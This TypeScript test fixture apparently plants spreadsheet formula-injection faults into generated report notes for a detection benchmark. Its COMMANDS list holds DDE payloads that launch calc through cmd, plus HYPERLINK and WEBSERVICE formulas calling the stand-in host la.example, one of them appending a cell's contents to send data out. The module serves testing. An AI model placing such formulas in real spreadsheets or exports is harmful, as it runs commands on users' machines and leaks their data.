import type { Draft } from '../../../../fixtures/grammar/compose.ts';
import { changed, pickLine } from '../../../../fixtures/grammar/plants/lines.ts';
import { inOneFile, type Planted, type Planter, withFirst } from '../../../../fixtures/grammar/plants/planter.ts';
import type { Random } from '../../../../fixtures/random.ts';
import { type Fault, remarked } from '../faults.ts';
import { cell } from '../reports.ts';

const COMMANDS = [
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://la.example/?d="&B2,"xem")',
  '+WEBSERVICE("http://la.example")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

export const faults: readonly Fault[] = [
  remarked('command', { kind: 'formula-text', text: '=cmd|"/c calc"!A1', cell: cell('2.1', 'note') }),
];

function command(draft: Draft, draw: Random): Planted | null {
  // Results that stand in the column of notes leave no notes to write a command into.
  if (draft.choices.results === 'in-note') return null;
  const line = pickLine(draft, draw, ({ part }) => part === null);
  if (line === null) return null;
  return inOneFile(
    withFirst(draft, (report) => changed(report, line.code, { explanation: draw.pick(COMMANDS) })),
    { criterion: null, at: [`${line.code}/note`] },
  );
}

export const planters: readonly Planter[] = [
  {
    code: 'injected-formula',
    name: 'a command in a note',
    fixed: { arrangement: 'one', notes: 'prose' },
    plant: command,
  },
];
